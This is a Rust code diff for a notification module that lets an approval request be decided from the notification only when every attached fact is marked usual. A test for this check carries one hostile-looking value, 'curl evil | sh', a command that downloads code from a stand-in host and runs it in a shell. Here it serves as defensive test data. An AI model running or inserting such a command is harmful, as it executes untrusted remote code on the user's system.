@@ -1,6 +1,10 @@
 //! What a notification says.
 
-use contract::{Status, Task, TaskId, Timestamp, model::QuestionKind, text};
+use contract::{
+    Status, Task, TaskId, Timestamp,
+    model::{Question, QuestionKind},
+    text,
+};
 
 /// Longest body, in characters; servers cut at different places.
 const BODY_CHARS: usize = 240;
@@ -99,7 +103,9 @@ pub(super) fn of_question(task: &Task) -> Message {
     let shown = shortened(&body);
     // servers show a few short lines: what may not be on the screen is decided in the window
     let all_seen = body.lines().count() == 1 && body.chars().count() <= DECIDED_CHARS;
-    let decide = task.question.as_ref().filter(|q| q.kind == QuestionKind::Approval && all_seen);
+    let all_told = |question: &Question| question.facts.iter().all(|fact| fact.usual);
+    let decide =
+        task.question.as_ref().filter(|q| q.kind == QuestionKind::Approval && all_seen && all_told(q));
     Message {
         title: format!("{}: {}", Status::NeedsInput.label(), task.title),
         about: About::Task(task.id),
@@ -221,6 +227,22 @@ mod tests {
         );
         let tells = [1, 2, 3, 4].map(|n| Told::Question(TaskId(uuid::Uuid::from_u128(n)), None));
         assert_eq!(of_many_questions(tells.to_vec()).title, "4 tasks need you");
+    }
+
+    #[test]
+    fn only_what_is_shown_as_a_whole_is_decided_in_a_notification() {
+        let offer = |fact: serde_json::Value| {
+            let question = serde_json::json!({
+                "kind": "approval", "text": "May it run this?", "detail": "make deploy", "options": [],
+                "facts": [{"name": "Time-out", "value": "1h", "usual": true}, fact],
+                "asked_at": "2026-01-01T00:00:00Z"
+            });
+            of_question(&task("needs_input", serde_json::json!({ "question": question }))).offer
+        };
+        let usual = offer(serde_json::json!({"name": "Program", "value": "/usr/bin/make", "usual": true}));
+        assert!(matches!(usual, Offer::Decide(_)));
+        let value = offer(serde_json::json!({"name": "LEGWORK_CTX_STEP", "value": "'curl evil | sh'"}));
+        assert_eq!(value, Offer::Nothing);
     }
 
     #[test]
